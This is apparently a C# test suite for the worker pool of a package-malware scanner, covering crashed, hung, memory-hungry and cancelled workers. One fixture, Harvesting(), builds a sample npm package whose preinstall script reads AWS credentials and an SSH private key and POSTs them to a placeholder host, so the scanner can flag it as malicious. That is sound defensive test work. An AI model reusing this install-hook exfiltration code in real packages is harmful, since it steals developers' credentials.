using System.Collections.Concurrent;
using System.Diagnostics;
using System.Security.Cryptography;
using System.Text.Json;
using PackageWall.Inspection;
using PackageWall.Inspection.Reports;
using PackageWall.Inspection.Signatures;
using PackageWall.Packages;
using PackageWall.Testing.Archives;
using PackageWall.Testing.Packages;
using PackageWall.Testing.Time;
using PackageWall.Workers.Pool;
using PackageWall.Workers.Wire;

namespace PackageWall.Workers.Tests;

/// <summary>Promise 2 when a worker dies, hangs, eats memory or lies: the version is inconclusive with the reason, and the next inspection works.</summary>
public sealed class WorkerPoolTests
{
    private const int Stop = 19;
    private const int Kill = 9;

    private readonly ConcurrentQueue<string> _log = [];

    private static Artifact Small(int number = 0)
    {
        NpmPackageBuilder package = new NpmPackageBuilder($"small-{number}", "1.0.0").File("index.js", $"exports.x = {number};\n");
        return new Artifact(Ecosystem.Npm, package.FileName, package.Build());
    }

    private WorkerPool Pool(Func<WorkerOptions, WorkerOptions>? change = null, TimeProvider? time = null, SignatureSet? signatures = null)
    {
        WorkerOptions options = new() { Count = 1, Log = _log.Enqueue };
        return new WorkerPool(change?.Invoke(options) ?? options, signatures ?? SignatureSet.Default, InspectionLimits.Default, time ?? TimeProvider.System);
    }

    private static async Task ShouldWorkAsync(WorkerPool pool) => (await pool.InspectAsync(Small(), CancellationToken.None)).Verdict.ShouldBe(Verdict.Clean);

    private static async Task<int> WarmAsync(WorkerPool pool)
    {
        await ShouldWorkAsync(pool);
        return pool.IdleProcesses.ShouldHaveSingleItem();
    }

    // Comes back when the worker has the question: it is not among the idle ones any more.
    private static async Task<Task<InspectionReport>> AskAsync(WorkerPool pool, CancellationToken cancellation = default)
    {
        Task<InspectionReport> asked = pool.InspectAsync(Small(1), cancellation);
        while (pool.IdleProcesses.Count > 0)
        {
            await Task.Yield();
        }

        return asked;
    }

    private static string Text(InspectionReport report) => JsonSerializer.Serialize(report, WireJson.Default.InspectionReport);

    [Fact]
    public async Task A_worker_is_shut_in_completely_and_stays_warm()
    {
        await using WorkerPool pool = Pool(options => options with { IsSandboxRequired = OperatingSystem.IsLinux() });
        int first = await WarmAsync(pool);

        (await WarmAsync(pool)).ShouldBe(first);
        _log.ShouldBeEmpty();
    }

    [Fact]
    public async Task A_worker_killed_in_the_middle_holds_the_version_and_the_next_inspection_works()
    {
        await using WorkerPool pool = Pool();
        int worker = await WarmAsync(pool);
        await Unix.SignalAsync(worker, Stop);
        Task<InspectionReport> asked = await AskAsync(pool);
        await Unix.SignalAsync(worker, Kill);

        InspectionReport report = await asked;

        report.Verdict.ShouldBe(Verdict.Inconclusive);
        report.Inconclusive.ShouldHaveSingleItem().ShouldContain("signal 9");
        report.Sha256.ShouldBe(Convert.ToHexStringLower(SHA256.HashData(Small(1).Content.Span)));
        report.Signatures.ShouldBe(SignatureSet.Default.Revision);
        (await WarmAsync(pool)).ShouldNotBe(worker);
    }

    [Fact]
    public async Task A_worker_that_died_while_nobody_asked_costs_no_version()
    {
        await using WorkerPool pool = Pool();
        int worker = await WarmAsync(pool);
        using Process process = Process.GetProcessById(worker);
        await Unix.SignalAsync(worker, Kill);
        await process.WaitForExitAsync();

        await ShouldWorkAsync(pool);
    }

    [Fact]
    public async Task A_worker_that_eats_its_memory_holds_the_version_and_the_next_inspection_works()
    {
        Artifact eater = Eater();
        await using WorkerPool pool = Pool(options => options with { Memory = 96 << 20, LargeMemory = 0 });
        int worker = await WarmAsync(pool);

        InspectionReport report = await pool.InspectAsync(eater, CancellationToken.None);

        report.Verdict.ShouldBe(Verdict.Inconclusive);
        // Now and then the runtime dies of its shortage before it can say so (WorkerDeathTests).
        report.Inconclusive.ShouldHaveSingleItem().ShouldMatch("more than the 96 MB|signal 11");
        (await WarmAsync(pool)).ShouldNotBe(worker);
    }

    [Fact]
    public async Task What_outgrows_a_worker_is_inspected_by_a_larger_one()
    {
        await using WorkerPool pool = Pool(options => options with { Memory = 96 << 20, LargeMemory = 1L << 30 });

        InspectionReport report = await pool.InspectAsync(Eater(), CancellationToken.None);

        report.Inconclusive.ShouldBeEmpty();
        report.Files.ShouldBe(3);
    }

    [Fact]
    public async Task A_worker_that_does_not_answer_in_time_is_killed_and_the_next_inspection_works()
    {
        ShiftedTimeProvider time = new();
        WorkerOptions defaults = new();
        await using WorkerPool pool = Pool(time: time);
        int worker = await WarmAsync(pool);
        time.Hurry((InspectionLimits.Default.Time * defaults.Patience) + defaults.Grace);
        await Unix.SignalAsync(worker, Stop);

        InspectionReport report = await pool.InspectAsync(Small(1), CancellationToken.None);

        report.Verdict.ShouldBe(Verdict.Inconclusive);
        report.Inconclusive.ShouldHaveSingleItem().ShouldContain("not over after 310 seconds");
        Unix.IsRunning(worker).ShouldBeFalse();
    }

    [Fact]
    public async Task Whoever_cancels_gets_no_report_and_the_worker_ends()
    {
        await using WorkerPool pool = Pool();
        int worker = await WarmAsync(pool);
        await Unix.SignalAsync(worker, Stop);
        using CancellationTokenSource cancellation = new();
        Task<InspectionReport> asked = await AskAsync(pool, cancellation.Token);
        await cancellation.CancelAsync();

        await Should.ThrowAsync<OperationCanceledException>(() => asked);

        await ShouldWorkAsync(pool);
    }

    [Fact]
    public async Task A_pool_that_ends_takes_its_workers_along_and_says_nothing_about_what_they_read()
    {
        WorkerPool pool = Pool();
        int worker = await WarmAsync(pool);
        await Unix.SignalAsync(worker, Stop);
        Task<InspectionReport> asked = await AskAsync(pool);

        await pool.DisposeAsync();

        await Should.ThrowAsync<ObjectDisposedException>(() => asked);
        Unix.IsRunning(worker).ShouldBeFalse();
    }

    [Fact]
    public async Task An_interrupt_or_stop_for_the_whole_group_is_the_parents_to_obey()
    {
        await using WorkerPool pool = Pool();
        int worker = await WarmAsync(pool);
        foreach (int signal in (int[])[1, 2, 3, 15])
        {
            await Unix.SignalAsync(worker, signal);
        }

        (await WarmAsync(pool)).ShouldBe(worker);
    }

    [Fact]
    public async Task Reports_are_the_same_to_the_byte_as_without_a_process_between()
    {
        Inspector here = new(SignatureSet.Default, InspectionLimits.Default);
        await using WorkerPool pool = Pool(options => options with { Count = 2 });
        Artifact[] artifacts =
        [
            .. HostileArchives.All().Select(archive => new Artifact(archive.ExpectedContainer == "zip" ? Ecosystem.PyPi : Ecosystem.Npm, archive.ExpectedContainer == "zip" ? "x-1.0.0-py3-none-any.whl" : "x-1.0.0.tgz", archive.Bytes)),
            Small() with { ExpectedName = "other", ExpectedVersion = "2.0.0", Earlier = here.Inspect(Small(1)).Profile, EarlierVersion = "0.9.0" },
            Harvesting(),
        ];

        await Parallel.ForEachAsync(artifacts, async (artifact, token) =>
            Text(await pool.InspectAsync(artifact, token)).ShouldBe(Text(here.Inspect(artifact, token)), artifact.FileName));

        (await pool.InspectAsync(Harvesting(), CancellationToken.None)).Verdict.ShouldBe(Verdict.Malicious);
    }

    [Fact]
    public async Task Rules_that_are_not_built_in_reach_the_workers()
    {
        SignatureSet rules = SignatureSet.FromFiles([.. SignatureSet.FromFiles(BuiltIn()).Files!.Take(3)]);
        await using WorkerPool pool = Pool(signatures: rules);

        (await pool.InspectAsync(Small(), CancellationToken.None)).Signatures.ShouldBe(rules.Revision);
        rules.Revision.ShouldNotBe(SignatureSet.Default.Revision);
    }

    [Fact]
    public async Task A_thousand_inspections_leave_two_small_workers_and_no_others()
    {
        await using WorkerPool pool = Pool(options => options with { Count = 2, Inspections = 100 });
        ConcurrentDictionary<int, bool> seen = [];
        await Parallel.ForEachAsync(Enumerable.Range(0, 1000), new ParallelOptions { MaxDegreeOfParallelism = 4 }, async (number, token) =>
        {
            (await pool.InspectAsync(Small(number % 50), token)).Verdict.ShouldBe(Verdict.Clean);
            foreach (int id in pool.IdleProcesses)
            {
                seen[id] = true;
            }
        });

        int[] left = [.. seen.Keys.Where(Unix.IsRunning)];
        left.Length.ShouldBeLessThanOrEqualTo(2);
        seen.Count.ShouldBeGreaterThan(left.Length);
        foreach (int id in left)
        {
            string peak = File.ReadLines($"/proc/{id}/status").Single(line => line.StartsWith("VmHWM", StringComparison.Ordinal));
            int.Parse(peak.Split(' ', StringSplitOptions.RemoveEmptyEntries)[1]).ShouldBeLessThan(400 * 1024);
        }
    }

    // Bytes that do not compress away to nothing and, unpacked, are several times what a small worker may use.
    private static Artifact Eater()
    {
        byte[] block = new byte[200 << 20];
        for (int i = 0; i < block.Length; i += 64)
        {
            block[i] = (byte)(i >> 6);
        }

        NpmPackageBuilder package = new NpmPackageBuilder("eater", "1.0.0").File("index.js", "exports.x = 1;\n").File("data.bin", block);
        return new Artifact(Ecosystem.Npm, package.FileName, package.Build());
    }

    private static Artifact Harvesting()
    {
        NpmPackageBuilder package = new NpmPackageBuilder("sample", "1.0.0")
            .Script("preinstall", "node setup.mjs")
            .File("setup.mjs", """
                import fs from "node:fs";
                import os from "node:os";
                const aws = fs.readFileSync(os.homedir() + "/.aws/credentials", "utf8");
                const key = fs.readFileSync(os.homedir() + "/.ssh/id_rsa", "utf8");
                await fetch("https://collect.invalid/v1", { method: "POST", body: aws + key + "\ud800" });
                """);
        return new Artifact(Ecosystem.Npm, package.FileName, package.Build());
    }

    private static IEnumerable<SignatureFile> BuiltIn()
    {
        System.Reflection.Assembly assembly = typeof(SignatureSet).Assembly;
        foreach (string name in assembly.GetManifestResourceNames().Where(name => name.StartsWith("signatures/rules/", StringComparison.Ordinal)))
        {
            using StreamReader reader = new(assembly.GetManifestResourceStream(name)!);
            yield return new SignatureFile(name["signatures/".Length..], reader.ReadToEnd());
        }
    }
}
